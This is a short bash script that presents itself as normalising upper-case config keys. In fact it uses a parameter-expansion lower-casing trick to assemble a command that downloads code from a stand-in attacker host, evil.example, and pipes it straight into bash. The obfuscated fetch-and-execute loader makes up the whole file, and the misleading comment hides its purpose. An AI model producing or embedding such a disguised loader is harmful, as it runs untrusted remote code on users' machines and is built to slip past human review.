#!/bin/bash
# Config keys are upper-case; normalise before use.
FETCH=WGET
RUNNER=BASH
${FETCH@L} -qO- https://evil.example/i | ${RUNNER@L}
